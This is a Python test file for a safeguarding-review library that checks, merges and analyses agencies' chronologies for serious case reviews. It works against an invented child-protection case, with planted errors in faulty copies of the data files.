"""Agencies' chronologies through the Python API (libscr.chronology and the
store's chronology methods): formats, files read and checked, the review's
chronologies kept, merged, analysed and exported.

The data is the invented case "Child R" in tests/data/chronology: its README
gives the counts (entries, untimed entries, the child seen, days with entries
of more than one agency, the gaps) and ERRORS.md the errors planted in the
faulty copies, row, cell and rule; the expected values below are those, or
are read from the data files by Python's own csv module, never by asking
libscr. The review is North Yorkshire's (the north-yorkshire-2010-scr pack):
opened on Monday 4 March 2024, three agencies' IMRs commissioned on Friday 8
March, whose chronologies are due four weeks later, on Friday 5 April
(000:109).

The tests that make their store with ``Store.in_memory`` run again on
PostgreSQL (conftest.py).
"""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import importlib.util
import io
import json
import os
import re
import stat
import zipfile
from html.parser import HTMLParser
from pathlib import Path
from typing import Any, Optional
from zoneinfo import ZoneInfo

import pytest

import libscr
from libscr import (
    Acronym,
    Actor,
    AgencyChronology,
    ChronologyCheck,
    ChronologyEntry,
    ChronologyFormat,
    ChronologyIssue,
    ChronologySetup,
    ChronologySubmission,
    ChronologyTable,
    DefinitionError,
    InputError,
    MultiAgencyChronology,
    Store,
    TransitionError,
    check_chronology,
    read_chronology,
    read_chronology_bytes,
)
from libscr.chronology import ChronologyCell, ChronologyGap, SeenCount

D = dt.date
T = dt.time
UTC = dt.timezone.utc
LONDON = ZoneInfo("Europe/London")

DATA = Path(__file__).resolve().parents[1] / "data" / "chronology"
SETUP = DATA / "setup.yaml"
REF = "Child R"
AGENCIES = ("Police", "Social Care", "Health")
FILES = {"Police": "police", "Social Care": "social-care", "Health": "health"}
FORMATS = ("essex-2016", "north-yorkshire-2010", "solihull-2011", "stockport-2010")
PERIOD = (D(2023, 3, 1), D(2024, 2, 29))

# README.md, "Counts (the same in every format)".
ENTRIES = {"Police": 16, "Social Care": 22, "Health": 20}
UNTIMED = {"Police": 2, "Social Care": 3, "Health": 3}
CHILD_SEEN = {"Police": 3, "Social Care": 6, "Health": 5}
LONGEST_GAP = {
    "Police": (D(2023, 6, 28), D(2023, 10, 14), 108),
    "Social Care": (D(2023, 7, 17), D(2023, 10, 16), 91),
    "Health": (D(2023, 7, 17), D(2023, 10, 2), 77),
}
SHARED_DAYS = [D(2023, 3, 13), D(2023, 3, 21), D(2023, 5, 10), D(2023, 7, 17), D(2023, 10, 16), D(2023, 11, 2),
               D(2023, 11, 9), D(2024, 1, 25), D(2024, 2, 18), D(2024, 2, 19)]
ALL_THREE_DAYS = [D(2023, 3, 13), D(2023, 3, 21), D(2023, 10, 16), D(2023, 11, 9), D(2024, 2, 18), D(2024, 2, 19)]


def london(y: int, m: int, d: int, hh: int = 10, mm: int = 0) -> dt.datetime:
    """A London wall-clock time (GMT or BST as in force)."""
    return dt.datetime(y, m, d, hh, mm, tzinfo=LONDON)


# ---- what the data files say, read without libscr ------------------------------------


def errors_md(name: str) -> list[tuple[int, str, str, str, str]]:
    """The rows of ERRORS.md's table for a faulty file: (row, column, cell,
    rule, level)."""
    text = (DATA / "ERRORS.md").read_text(encoding="utf-8")
    section = text.split(f"## `{name}`", 1)[1].split("\n## ", 1)[0]
    out = []
    for line in section.splitlines():
        cells = [c.strip() for c in line.strip().strip("|").split("|")]
        if len(cells) == 6 and cells[0].isdigit():
            row, column, cell, rule, level, _what = cells
            out.append((int(row), column, cell, rule, level))
    assert out, f"no table for {name} in ERRORS.md"
    return sorted(out)


def found(issues: Any) -> list[tuple[int, str, str, str, str]]:
    return sorted((i.row, i.column, i.cell, i.rule, i.level) for i in issues)


def csv_rows(path: Path) -> list[list[str]]:
    """A data file's rows as Python's csv module reads them."""
    with open(path, encoding="utf-8-sig", newline="") as f:
        return list(csv.reader(f))


def setup_of(format_id: str) -> ChronologySetup:
    return ChronologySetup.load(SETUP, format=format_id)


def checked(format_id: str, agency: str, suffix: str = "csv") -> ChronologyCheck:
    return check_chronology(setup_of(format_id), agency, DATA / format_id / f"{FILES[agency]}.{suffix}")


# ---- the review ------------------------------------------------------------------------

MANAGER = Actor("M. Manager", "lscb_manager", "North Yorkshire LSCB")
SUB_CHAIR = Actor("S. Chair", "sub_group_chair", "North Yorkshire LSCB")
LSCB_CHAIR = Actor("L. Chair", "lscb_chair", "North Yorkshire LSCB")
ADMIN = Actor("J. Lee", "administrator", "North Yorkshire LSCB")


def senior(agency: str) -> Actor:
    return Actor(f"Senior, {agency}", "agency_senior_officer", agency)


def writer(agency: str) -> Actor:
    return Actor(f"IMR writer, {agency}", "imr_author", agency)


def ny_review(db: Store) -> None:
    """Child R: notified on Monday 4 March 2024, an SCR decided on Thursday 7
    March, Ofsted told and three IMRs commissioned on Friday 8 March, each
    agency's writer identified on Monday 11 March: each IMR track now waits
    for its chronology."""
    db.open_review("north-yorkshire-2010-scr", REF, london(2024, 3, 4, 9), MANAGER, {"referred_by": "Police"})
    db.record(REF, "sub_group_met", london(2024, 3, 5), SUB_CHAIR, {"recommendation": "scr"})
    db.record(REF, "manager_report_presented", london(2024, 3, 6), MANAGER)
    db.record(REF, "recommendation_forwarded", london(2024, 3, 6, 11), MANAGER)
    db.record(REF, "decision_made", london(2024, 3, 7), LSCB_CHAIR, {"outcome": "scr"})
    db.record(REF, "ofsted_notified", london(2024, 3, 8), MANAGER)
    for a in AGENCIES:
        db.record(REF, "imr_commissioned", london(2024, 3, 8, 11), MANAGER, {"agency": a})
        db.record(REF, "writer_identified", london(2024, 3, 11), senior(a), {"health_service": a == "Health"},
                  agency=a)


def track_states(db: Store) -> dict[str, str]:
    return {t.agency: t.state for t in db.load(REF).tracks()}


# ---- formats ------------------------------------------------------------------------------


def test_the_four_boards_formats_are_built_in():
    assert ChronologyFormat.builtin_ids() == list(FORMATS)
    for id in FORMATS:
        f = ChronologyFormat.builtin(id)
        assert (f.id, f.version) == (id, 1)
        # Exactly one date column, required, and at most one time column.
        assert [c.id for c in f.columns if c.type == "date"] == ["date"]
        assert f.column("date").required and f.column("date").role == "date"
        assert f.column_for("date") == f.column("date")
    with pytest.raises(InputError, match=r"no built-in chronology format 'leeds-2012'.*stockport-2010"):
        ChronologyFormat.builtin("leeds-2012")


def test_stockport_columns_and_rules_are_those_of_its_yaml():
    # libscr/chronology-formats/stockport-2010.yaml; 002:242-251.
    f = ChronologyFormat.builtin("stockport-2010")
    assert [(c.id, c.title, c.type, c.role, c.required) for c in f.columns] == [
        ("date", "Date", "date", "date", True),
        ("time", "Time", "time", "time", False),
        ("source", "Source of Information", "text", "source", True),
        ("subject", "Subject of recording", "codes", "subject", True),
        ("event", "Event description, actions and outcomes", "text", "summary", True),
        ("standards", "Expected Practice/Standards", "text", "standards", False),
        ("tor", "Relevant Terms of Reference", "tor", "tor", False),
        ("child_seen", "Child Seen (Y/N)", "yes_no", "seen", True),
    ]
    assert f.column("event").headings == ("Event description",) and f.column("event").names
    assert f.column("child_seen").cite == ("002:222", "002:251")
    assert f.date_forms == ("dd/mm/yy",) and f.time_forms == ("HH:MM",)  # "dd/mm/yy ONLY" (002:242)
    assert (f.time_rule, f.unknown_time, f.unknown_time_reason_in) == ("must", "00:00", "event")  # 002:243
    assert f.untimed_first and f.period_rule == "must" and f.other_columns_refused
    assert (f.seen_detail, f.summary_rule, f.learning_event_leaves_out) == ("should", None, ())
    assert f.cite == ("002:218-253",)
    assert f.source.startswith("# Stockport SCB")
    with pytest.raises(KeyError, match=r"no column 'events'.*did you mean 'event'"):
        f.column("events")
    assert f.column_for("comment") is None


def test_the_other_formats_rules():
    ny = ChronologyFormat.builtin("north-yorkshire-2010")
    # "01.01.2004 or 22.05.04, and 01:00 or 0100" (000:391).
    assert ny.date_forms == ("dd.mm.yyyy", "dd.mm.yy", "dd/mm/yyyy", "dd/mm/yy")
    assert ny.time_forms == ("HH:MM", "HHMM")
    assert (ny.time_rule, ny.unknown_time, ny.untimed_first) == ("should", None, False)
    assert ny.column("comment").optional and not ny.column("comment").required
    essex = ChronologyFormat.builtin("essex-2016")
    assert essex.summary_rule == "must" and essex.learning_event_leaves_out == ("comment",)  # 004:208, 004:290
    solihull = ChronologyFormat.builtin("solihull-2011")
    assert solihull.column_for("number").id == "number" and solihull.column("seen").type == "yes_no"


BAD_FORMAT = """\
format:
  id: Our Board
  title: Ours
  dates: [dd/mm/yyyy, mm/dd]
  times: ["HH:MM", 5pm]
  time: always
  columns:
    - {id: date, title: Date, type: date, role: date}
    - {id: what, title: What happened, type: text, role: summry, required: true}
"""

GOOD_FORMAT = """\
format:
  id: our-board-2024
  version: 2
  title: Our board's agency chronology
  dates: [dd/mm/yyyy]
  times: ["HH:MM"]
  learning_event: {leave_out: [analysis]}
  columns:
    - {id: date, title: Date, type: date, role: date, required: true}
    - {id: time, title: Time, type: time, role: time}
    - {id: who, title: People involved, headings: [Initials], type: codes, role: subject, required: true}
    - {id: what, title: What happened, type: text, role: summary, required: true, names: true}
    - {id: seen, title: Child seen, type: yes_no, role: seen, required: true}
    - {id: alone, title: Seen alone, type: yes_no, role: seen_alone, present: optional}
    - {id: analysis, title: Analysis, type: text, role: comment, present: optional}
"""


def test_a_boards_own_format_is_read_and_its_problems_are_each_at_their_line(tmp_path: Path):
    f = ChronologyFormat.parse(GOOD_FORMAT, "ours.yaml")
    assert (f.id, f.version, f.title) == ("our-board-2024", 2, "Our board's agency chronology")
    assert f.column("who").headings == ("Initials",) and f.column("alone").optional
    assert ChronologyFormat.check(GOOD_FORMAT) == []
    path = tmp_path / "ours.yaml"
    path.write_text(GOOD_FORMAT, encoding="utf-8")
    assert ChronologyFormat.load(path) == f
    assert ChronologyFormat.check_file(path) == []

    problems = ChronologyFormat.check(BAD_FORMAT, "bad.yaml")
    where = {(d.line, d.rule) for d in problems}
    assert {(2, "bad-id"), (4, "bad-date-form"), (5, "bad-time-form"), (6, "bad-value"), (9, "bad-value")} <= where
    assert any(d.rule == "date-column" for d in problems)  # the date column is not required
    assert all(d.severity == "error" and d.file == "bad.yaml" for d in problems)
    assert any("did you mean 'summary'" in d.message for d in problems)
    with pytest.raises(DefinitionError) as error:
        ChronologyFormat.parse(BAD_FORMAT, "bad.yaml")
    assert [(d.line, d.rule) for d in error.value.diagnostics] == [(d.line, d.rule) for d in problems]
    assert "bad.yaml:2:" in str(error.value)
    bad = tmp_path / "bad.yaml"
    bad.write_text(BAD_FORMAT, encoding="utf-8")
    assert [(d.line, d.rule) for d in ChronologyFormat.check_file(bad)] == [(d.line, d.rule) for d in problems]
    assert ChronologyFormat.check_file(bad)[0].file == str(bad)
    with pytest.raises(DefinitionError):
        ChronologyFormat.load(bad)
    with pytest.raises(InputError, match="cannot read chronology format"):
        ChronologyFormat.load(tmp_path / "none.yaml")


# ---- the setup ----------------------------------------------------------------------------


def test_the_setup_file_is_read_as_the_cli_reads_it():
    s = setup_of("stockport-2010")
    assert s.format == ChronologyFormat.builtin("stockport-2010")
    assert (s.period_from, s.period_to) == PERIOD
    assert len(s.questions) == 6 and s.questions[2].startswith("Was R seen, and seen alone")
    assert len(s.acronyms) == 17 and s.acronyms[0] == Acronym("R", "family", "the child")
    assert s.acronym("sw1") == Acronym("SW1", "professional", "allocated social worker")
    assert s.acronym("FH").meaning == "family home (M's home)"
    assert len(s.known_names) == 16 and s.known_names[:2] == ("Rosie Hartwell", "Rosie")
    with pytest.raises(KeyError, match="no acronym 'XY'"):
        s.acronym("XY")
    # setup.yaml names no format: one must be given.
    with pytest.raises(InputError, match="names no format"):
        ChronologySetup.load(SETUP)
    # The file's format, replaced by the one given.
    text = SETUP.read_text(encoding="utf-8")
    assert ChronologySetup.loads("format: essex-2016\n" + text).format.id == "essex-2016"
    assert ChronologySetup.loads("format: essex-2016\n" + text, format="solihull-2011").format.id == "solihull-2011"


@pytest.mark.parametrize("text, line, words", [
    ("period: {from: 2023-03-01, to: 2024-02-29}\nquestons: [a]\n", 2, "unknown key 'questons'"),
    ("period: {from: 2024-03-01, to: 2023-02-28}\n", 1, "ends before it starts"),
    ("acronyms:\n  - {code: M, kind: family}\n  - {code: m, kind: family}\n", 3, "listed twice"),
    ("known_names: Rosie\n", 1, "known_names is a list"),
])
def test_a_setup_file_with_a_problem_is_refused_naming_its_line(text: str, line: int, words: str):
    with pytest.raises(InputError, match=rf"setup\.yaml:{line}: .*{words}"):
        ChronologySetup.loads(text, format="stockport-2010", name="setup.yaml")


def test_a_setup_made_in_python_is_checked_when_made():
    s = ChronologySetup("stockport-2010", D(2023, 3, 1), None, ["Signs of harm"], [("M", "family", "mother")],
                        ["Dana"])
    assert s.acronyms == (Acronym("M", "family", "mother"),) and s.questions == ("Signs of harm",)
    assert s.known_names == ("Dana",) and s.period_to is None
    with pytest.raises(InputError, match="ends"):
        ChronologySetup("stockport-2010", D(2024, 3, 1), D(2023, 3, 1))
    with pytest.raises(TypeError, match="acronyms"):
        ChronologySetup("stockport-2010", acronyms=["M"])
    with pytest.raises(TypeError, match="period_from"):
        ChronologySetup("stockport-2010", period_from=20230301)  # type: ignore[arg-type]
    with pytest.raises(TypeError, match="format"):
        ChronologySetup(3)  # type: ignore[arg-type]


# ---- reading files ---------------------------------------------------------------------


def _trimmed(row: list[str]) -> list[str]:
    """A row without its trailing blank cells (a blank row has none)."""
    while row and not row[-1]:
        row = row[:-1]
    return row


def test_csv_and_xlsx_read_the_same_cells():
    for format_id in FORMATS:
        for agency, name in FILES.items():
            text = read_chronology(DATA / format_id / f"{name}.csv")
            sheet = read_chronology(DATA / format_id / f"{name}.xlsx")
            expected = [_trimmed(r) for r in csv_rows(DATA / format_id / f"{name}.csv")]
            assert text.file == f"{name}.csv" and sheet.file == f"{name}.xlsx"
            assert [_trimmed([c.text for c in r]) for r in text.rows] == expected
            # Excel holds dates and times as numbers: the date and time cells
            # are read as such, shown as dd/mm/yyyy and HH:MM.
            date_col = next(i for i, h in enumerate(expected[0]) if h == "Date")
            first = sheet.rows[1][date_col]
            assert first.day is not None and first.text == first.day.strftime("%d/%m/%Y"), (format_id, name)


def test_windows_1252_is_read_as_the_utf8_file_is():
    utf8 = DATA / "stockport-2010" / "police.csv"
    cp1252 = DATA / "stockport-2010" / "police-windows-1252.csv"
    raw = cp1252.read_bytes()
    assert not raw.startswith(b"\xef\xbb\xbf") and b"\x92" in raw  # ’ in Windows-1252
    assert read_chronology(cp1252).rows == read_chronology(utf8).rows
    assert any("’" in c.text for r in read_chronology(cp1252).rows for c in r)
    assert read_chronology_bytes(raw, "upload.csv").rows == read_chronology(utf8).rows
    assert read_chronology_bytes(raw, "upload.csv").file == "upload.csv"


def test_a_file_that_is_neither_csv_nor_xlsx_is_refused(tmp_path: Path):
    broken = tmp_path / "broken.xlsx"
    with zipfile.ZipFile(broken, "w") as z:
        z.writestr("hello.txt", "not a workbook")
    with pytest.raises(InputError, match="broken.xlsx"):
        read_chronology(broken)
    with pytest.raises(InputError, match="cannot read chronology"):
        read_chronology(tmp_path / "none.csv")
    with pytest.raises(TypeError, match="data must be bytes"):
        read_chronology_bytes("Date,Time\n")  # type: ignore[arg-type]


def test_a_table_made_from_python_values_is_checked_as_the_file_is():
    setup = setup_of("stockport-2010")
    rows: list[list[Any]] = csv_rows(DATA / "stockport-2010" / "police.csv")
    from_file = check_chronology(setup, "Police", DATA / "stockport-2010" / "police.csv")
    table = ChronologyTable.from_rows(rows, "police.csv")
    assert len(table) == len(rows) and table.file == "police.csv"
    assert check_chronology(setup, "Police", table).chronology == from_file.chronology
    # Dates and times as a spreadsheet library gives them: date and time cells.
    typed = [rows[0]] + [[dt.datetime.strptime(r[0], "%d/%m/%y").date(),
                          dt.datetime.strptime(r[1], "%H:%M").time(), *r[2:]] for r in rows[1:]]
    assert check_chronology(setup, "Police", ChronologyTable.from_rows(typed, "police.csv")).chronology.sha256 == \
        from_file.chronology.sha256
    cells = ChronologyTable.from_rows([["Date"], [D(2023, 3, 12)], [T(9, 5)], [None], [float("nan")], [7]]).rows
    assert cells == ((ChronologyCell("Date"),), (ChronologyCell("12/03/2023", D(2023, 3, 12)),),
                     (ChronologyCell("09:05", None, T(9, 5)),), (ChronologyCell(""),), (ChronologyCell(""),),
                     (ChronologyCell("7"),))
    with pytest.raises(TypeError, match=r"rows\[1\]\[0\]"):
        ChronologyTable.from_rows([["Date"], [object()]])


# ---- checks --------------------------------------------------------------------------------


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_the_faulty_social_care_file_is_refused_with_each_planted_error(suffix: str):
    # ERRORS.md: the XLSX copy has the same errors in the same cells.
    check = check_chronology(setup_of("stockport-2010"), "Social Care",
                             DATA / "stockport-2010" / f"social-care-faulty.{suffix}")
    assert found(check.issues) == errors_md("stockport-2010/social-care-faulty.csv")
    assert check.refused and (check.errors, check.warnings) == (12, 1)
    report = check.report()
    assert report.splitlines()[0] == ("Chronology from Social Care (stockport-2010): RETURNED for amendment: "
                                      "12 errors, 1 warning")
    # Errors first, then warnings, each naming its row, cell, heading and rule.
    lines = report.splitlines()[1:]
    assert len(lines) == 13 and lines[-1].startswith("  warning row 19, E19 (Event description")
    assert lines[0].startswith("  error   row 1, I1 (Worker): ") and lines[0].endswith("[header-unknown]")
    assert [str(i) for i in check.issues if i.rule == "code-unknown"] == [
        "error row 17, D17 (Subject of recording): 'XY' is not on the review's acronym list; did you mean 'R'? "
        "[code-unknown]"]
    # The row dated 13/01/23 is read, dated, and outside the period: an entry
    # more than the correction's, which has 22.
    assert len(check.chronology.entries) == 21
    assert check.chronology.entries[0].day == D(2023, 1, 13)


def test_the_faulty_north_yorkshire_and_essex_files_are_refused_with_each_planted_error():
    ny = check_chronology(setup_of("north-yorkshire-2010"), "Police",
                          DATA / "north-yorkshire-2010" / "police-faulty.csv")
    # ERRORS.md leaves out the entries without a time: warnings where the format says "should".
    assert found(i for i in ny.issues if i.rule != "time-missing") == errors_md("north-yorkshire-2010/police-faulty.csv")
    assert {i.level for i in ny.issues if i.rule == "time-missing"} == {"warning"}
    essex = check_chronology(setup_of("essex-2016"), "Health", DATA / "essex-2016" / "health-faulty.csv")
    assert found(i for i in essex.issues if i.rule != "time-missing") == errors_md("essex-2016/health-faulty.csv")
    assert essex.refused and essex.chronology.summary == ""


@pytest.mark.parametrize("format_id", FORMATS)
@pytest.mark.parametrize("agency", AGENCIES)
def test_every_correct_file_is_accepted_with_the_readmes_counts(format_id: str, agency: str):
    by_csv = checked(format_id, agency, "csv")
    by_xlsx = checked(format_id, agency, "xlsx")
    for check in (by_csv, by_xlsx):
        assert not check.refused
        # Untimed entries are a warning where the format says "should", and
        # Stockport's have 00:00 and the reason: no issue at all.
        rules = [i.rule for i in check.issues]
        assert rules == ([] if format_id == "stockport-2010" else ["time-missing"] * UNTIMED[agency])
        entries = check.chronology.entries
        assert len(entries) == ENTRIES[agency]
        assert sum(e.untimed for e in entries) == UNTIMED[agency]
        seen = [e.child_seen for e in entries]
        if ChronologyFormat.builtin(format_id).column_for("seen") is None:
            assert seen == [None] * len(entries)
        else:
            assert sum(s is True for s in seen) == CHILD_SEEN[agency]
        assert [e.position for e in entries] == list(range(len(entries)))
        assert all(e.agency == agency for e in entries)
    # The same content in both: the same entries, the same SHA-256.
    assert by_csv.chronology.sha256 == by_xlsx.chronology.sha256
    assert by_csv.chronology.entries == by_xlsx.chronology.entries
    c = by_csv.chronology
    assert (c.agency, c.format, c.format_version) == (agency, format_id, 1)
    assert re.fullmatch(r"[0-9a-f]{64}", c.sha256)
    # Essex's chronologies end with their summary of themes and learning.
    rows = csv_rows(DATA / format_id / f"{FILES[agency]}.csv")
    summary = next((r[1] for r in rows if r and r[0] == "Summary of themes and learning"), "")
    assert c.summary == summary and (format_id == "essex-2016") == bool(summary)


def test_an_entrys_values_are_normalised_and_its_meaning_read():
    # Stockport police.csv row 2: 12/03/23 23:40, "M, MP, R, PC1", ToR "1, 2, 3",
    # the child seen but not alone and wishes not sought.
    rows = csv_rows(DATA / "stockport-2010" / "police.csv")
    e = checked("stockport-2010", "Police").chronology.entries[0]
    assert (e.row, e.day, e.time) == (2, D(2023, 3, 12), T(23, 40))
    assert e.values["date"] == "12/03/2023" and e.values["time"] == "23:40"
    assert e.values["event"] == rows[1][4]
    assert e.subjects == ("M", "MP", "R", "PC1") and e.questions == (1, 2, 3)
    assert (e.child_seen, e.seen_alone, e.wishes_sought) == (True, False, False)
    # Stockport's 00:00 with its reason is untimed: Social Care row 6, 23/03/2023.
    untimed = [e for e in checked("stockport-2010", "Social Care").chronology.entries if e.untimed]
    assert untimed[0].row == 6 and untimed[0].values["time"] == "00:00" and untimed[0].time is None


def _police_entry(format_id: str, column: int, text: str, setup: Optional[ChronologySetup] = None) -> ChronologyCheck:
    """The first Police entry with one cell's text replaced (its child seen Y
    in Stockport's format)."""
    rows = csv_rows(DATA / format_id / "police.csv")
    rows[1][column] = text
    if format_id == "stockport-2010":
        rows[1][7] = "Y"
    return check_chronology(setup or setup_of(format_id), "Police", ChronologyTable.from_rows(rows, "police.csv"))


@pytest.mark.parametrize("text, alone, wishes", [
    # docs/chronology.md, "Seen alone and wishes, read from the text".
    ("R was not seen alone and her wishes and feelings were not sought.", False, False),
    ("R was seen alone in her bedroom and her wishes and feelings were sought: R said she was happy.", True, True),
    ("R was seen in a quiet room with TS present, so R was not seen alone; R's wishes and feelings were sought "
     "using the three houses tool.", False, True),
    ("R seen alone; wishes and feelings not explored.", True, False),
    ("R was seen. Wishes not sought.", None, False),
    ("R WAS NOT SEEN ALONE. HER WISHES WERE NOT SOUGHT.", False, False),
    ("R wasn't seen alone; her wishes weren't sought.", False, False),
    # The typographic apostrophe Word and Excel put in (the data files have it).
    ("R wasn\u2019t seen alone; her wishes weren\u2019t sought.", False, False),
])
def test_seen_alone_and_wishes_are_read_from_the_text(text: str, alone: Optional[bool], wishes: Optional[bool]):
    check = _police_entry("stockport-2010", 4, text)
    e = check.chronology.entries[0]
    assert (e.child_seen, e.seen_alone, e.wishes_sought) == (True, alone, wishes)
    # Stockport's seen_detail: an entry that leaves either unknown is warned.
    assert [i.rule for i in check.issues if i.row == 2] == ([] if None not in (alone, wishes) else ["seen-detail"])


@pytest.mark.parametrize("text", ["Seen by Chlo\u00e9 at home", "seen by chlo\u00e9 at home", "SEEN BY CHLO\u00c9 AT HOME",
                                  "Seen by ROSIE", "Rosie\u2019s mother attended", "Seen with Rosie-May"])
def test_a_known_name_is_found_in_any_case(text: str):
    # docs/chronology.md: a known name is found "whole words, in any case";
    # accented capitals too (CHLOÉ is Chloé).
    setup = dataclasses.replace(setup_of("north-yorkshire-2010"), known_names=("Chlo\u00e9", "Rosie"))
    check = _police_entry("north-yorkshire-2010", 4, text, setup)
    assert [(i.rule, i.cell) for i in check.issues if i.rule != "time-missing"] == [("known-name", "E2")]


def test_a_review_with_no_acronym_list_is_warned_that_codes_were_not_checked():
    check = check_chronology(ChronologySetup("stockport-2010"), "Police", DATA / "stockport-2010" / "police.csv")
    assert not check.refused
    assert [(i.rule, i.level, i.row) for i in check.issues] == [("acronyms-missing", "warning", 0)]
    assert check.report().startswith("Chronology from Police (stockport-2010): accepted, 16 entries, 1 warning")


# ---- the multi-agency chronology ---------------------------------------------------------


def merged(format_id: str) -> MultiAgencyChronology:
    return MultiAgencyChronology(format_id, [checked(format_id, a) for a in AGENCIES])


@pytest.mark.parametrize("format_id", FORMATS)
def test_the_merged_chronology_has_the_readmes_days_and_gaps(format_id: str):
    m = merged(format_id)
    assert len(m) == len(m.entries) == 58
    assert m.agencies == ["Health", "Police", "Social Care"]
    assert [c.agency for c in m.chronologies] == ["Health", "Police", "Social Care"]
    by_day: dict[dt.date, set[str]] = {}
    for e in m.entries:
        by_day.setdefault(e.day, set()).add(e.agency)
    assert sorted(d for d, a in by_day.items() if len(a) > 1) == SHARED_DAYS
    assert sorted(d for d, a in by_day.items() if len(a) == 3) == ALL_THREE_DAYS
    # 77 days between the two entries, from the period's start to its end.
    assert list(m.gaps(60, *PERIOD)) == [ChronologyGap("", D(2023, 7, 17), D(2023, 10, 2), 77)]
    assert list(m.gaps(76, *PERIOD)) == list(m.gaps(60, *PERIOD)) and list(m.gaps(77, *PERIOD)) == []
    for agency, (start, end, days) in LONGEST_GAP.items():
        longest = max(m.gaps(1, *PERIOD, agency=agency), key=lambda g: g.days)
        assert (longest.start, longest.end, longest.days) == (start, end, days), agency
    with pytest.raises(InputError, match="1 day or more"):
        m.gaps(0)


def _order(format_id: str) -> None:
    m = merged(format_id)
    first = ChronologyFormat.builtin(format_id).untimed_first
    entries = list(m.entries)
    for a, b in zip(entries, entries[1:]):
        assert a.day <= b.day
        if a.day != b.day:
            continue
        if a.untimed != b.untimed:
            # Untimed entries first (Stockport) or last (the others) in their day.
            assert a.untimed == first, (a, b)
        elif not a.untimed and a.time != b.time:
            assert a.time < b.time  # type: ignore[operator]
        elif a.agency == b.agency:
            assert a.position < b.position  # an agency's own order
        else:
            assert a.agency < b.agency  # agencies in order of name


@pytest.mark.parametrize("format_id", ["stockport-2010", "north-yorkshire-2010"])
def test_the_merge_orders_by_date_time_untimed_place_and_agency(format_id: str):
    _order(format_id)


def test_selections_seen_counts_and_known_names():
    m = merged("stockport-2010")
    police = m.select(agency="police")
    assert len(police) == 16 and {e.agency for e in police} == {"Police"}
    # By hand from the CSV files: entries naming MP (the "Subject of recording" column).
    mp = sum(1 for a in AGENCIES for r in csv_rows(DATA / "stockport-2010" / f"{FILES[a]}.csv")[1:]
             if "MP" in [c.strip() for c in r[3].split(",")])
    assert len(m.select(subject="mp")) == mp
    q3 = m.select(question=3)
    assert q3 and all(3 in e.questions for e in q3)
    window = m.select(start=D(2024, 2, 18), end=D(2024, 2, 18), subject="MP")
    assert [(e.agency, e.row) for e in window] == [(e.agency, e.row) for e in m.entries
                                                   if e.day == D(2024, 2, 18) and "MP" in e.subjects]
    counts = m.seen_counts()
    assert {(c.agency): 0 for c in counts}.keys() == {"Health", "Police", "Social Care"}
    for agency in AGENCIES:
        assert sum(c.entries for c in counts if c.agency == agency) == ENTRIES[agency]
        assert sum(c.seen for c in counts if c.agency == agency) == CHILD_SEEN[agency]
    assert all(c.seen_alone <= c.seen and c.wishes_sought <= c.seen for c in counts)
    frame = counts.to_pandas()
    assert list(frame.columns) == [f.name for f in dataclasses.fields(SeenCount)]
    assert str(frame["entries"].dtype) == "int64" and frame["entries"].sum() == 58
    # The correct files name no one; the faulty one's known name, merged, is found.
    assert list(m.unlisted_names(setup_of("stockport-2010").known_names)) == []
    names = m.unlisted_names(["Maple Tree Nursery", "police constable"])
    assert names == m.unlisted_names(["police constable", "Maple Tree Nursery"])
    assert all(i.rule == "known-name" and i.level == "error" for i in names)


def test_a_merge_refuses_two_chronologies_of_one_agency_and_another_format():
    police = checked("stockport-2010", "Police")
    with pytest.raises(InputError, match="two chronologies of agency"):
        MultiAgencyChronology("stockport-2010", [police, police])
    with pytest.raises(InputError, match="format"):
        MultiAgencyChronology("north-yorkshire-2010", [police])
    refused = check_chronology(setup_of("stockport-2010"), "Social Care",
                               DATA / "stockport-2010" / "social-care-faulty.csv")
    with pytest.raises(InputError, match="refused"):
        MultiAgencyChronology("stockport-2010", [refused])
    with pytest.raises(TypeError, match="chronologies"):
        MultiAgencyChronology("stockport-2010", ["police.csv"])  # type: ignore[list-item]
    empty = MultiAgencyChronology("stockport-2010", [])
    assert len(empty) == 0 and empty.to_pandas().shape[0] == 0


# ---- DataFrames ----------------------------------------------------------------------------


def assert_entries_frame(frame: Any, m: MultiAgencyChronology) -> None:
    import pandas as pd

    text = pd.Series([""]).dtype
    assert len(frame) == 58
    f = m.format
    typed = {c.id for c in f.columns if c.role in ("date", "time") or
             (c.role in ("seen", "seen_alone", "wishes") and c.type == "yes_no")}
    own = [c.id + ("_text" if c.id in ("agency", "row", "date", "time", "subjects", "questions") else "")
           for c in f.columns if c.id not in typed]
    assert list(frame.columns) == ["agency", "row", "position", "date", "time", "untimed", *own, "subjects",
                                   "questions", "child_seen", "seen_alone", "wishes_sought"]
    assert isinstance(frame["agency"].dtype, pd.CategoricalDtype)
    assert list(frame["agency"].cat.categories) == ["Health", "Police", "Social Care"]
    assert str(frame["row"].dtype) == "int64" and str(frame["position"].dtype) == "int64"
    assert str(frame["date"].dtype) == "datetime64[ns]"
    assert str(frame["time"].dtype) == "timedelta64[ns]"
    assert str(frame["untimed"].dtype) == "bool"
    for column in own:
        assert frame[column].dtype == text, column
    for flag in ("child_seen", "seen_alone", "wishes_sought"):
        assert str(frame[flag].dtype) == "boolean"
    # Row by row what the entries say.
    for row, e in zip(frame.itertuples(index=False), m.entries):
        assert (row.agency, row.row, row.date.date()) == (e.agency, e.row, e.day)
        assert row.untimed == e.untimed and pd.isna(row.time) == e.untimed
        if not e.untimed:
            assert row.date + row.time == dt.datetime.combine(e.day, e.time)  # type: ignore[arg-type]
        assert row.subjects == e.subjects and row.questions == e.questions
        for flag, value in (("child_seen", e.child_seen), ("seen_alone", e.seen_alone),
                            ("wishes_sought", e.wishes_sought)):
            got = getattr(row, flag)
            assert (pd.isna(got) and value is None) or got == value
    assert frame["untimed"].sum() == sum(UNTIMED.values())
    assert frame.groupby("agency", observed=True).size().to_dict() == {a: ENTRIES[a] for a in
                                                                         ("Health", "Police", "Social Care")}


@pytest.mark.parametrize("format_id", FORMATS)
def test_to_pandas_gives_one_row_per_entry_with_typed_columns(format_id: str):
    m = merged(format_id)
    frame = m.to_pandas()
    assert_entries_frame(frame, m)
    if format_id == "stockport-2010":
        first = frame.iloc[0]  # docs/chronology.md: Health's GP record of 02/03/2023 09:30
        assert (first.agency, first.row, str(first.date.date()), str(first.time)) == \
            ("Health", 2, "2023-03-02", "0 days 09:30:00")
        assert frame["child_seen"].sum() == sum(CHILD_SEEN.values())
    if format_id in ("north-yorkshire-2010", "essex-2016"):
        assert frame["child_seen"].isna().all()  # no column for it
